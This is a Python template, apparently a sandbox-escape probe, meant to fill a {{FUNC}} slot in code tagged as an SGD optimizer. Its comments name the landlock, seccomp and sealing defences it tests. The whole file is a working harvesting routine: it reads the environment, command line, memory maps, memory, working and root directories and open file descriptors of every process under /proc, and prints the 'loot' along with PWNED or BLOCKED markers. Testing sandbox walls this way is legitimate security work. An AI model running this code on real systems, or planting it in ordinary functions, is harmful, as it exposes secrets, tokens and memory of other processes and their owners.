"""Reads environ, cmdline, cwd, root, maps, mem and fd of every process under /proc."""
# against: optimizers.sgd
# walls: landlock seccomp sealing
# seen: pwned
def _say(ok, what=""):
    print(("PWNED " if ok else "BLOCKED ") + "read_proc " + str(what)[:200], flush=True)
import os
def {{FUNC}}(*args, **kwargs):
    me = os.getpid(); loot = []
    try: pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != me][:400]
    except OSError as e:
        _say(False, "list " + str(e)); pids = [str(os.getppid()), str(os.getpgrp()), "1"] + [str(me - i) for i in range(1, 40)]
    for p in [p for p in pids if int(p) not in (0, me)]:
        for n in ("environ", "cmdline", "maps", "mem", "cwd/.", "root/.", "fd/0", "fd/3"):
            try:
                with open("/proc/%s/%s" % (p, n), "rb") as f: loot.append((p, n, f.read(300)))
                _say(n not in ("cmdline",), p + " " + n)
            except OSError as e: pass
        for n in ("cwd", "exe"):
            try: loot.append(os.readlink("/proc/%s/%s" % (p, n)))
            except OSError: pass
    print(str(loot)[:5000])
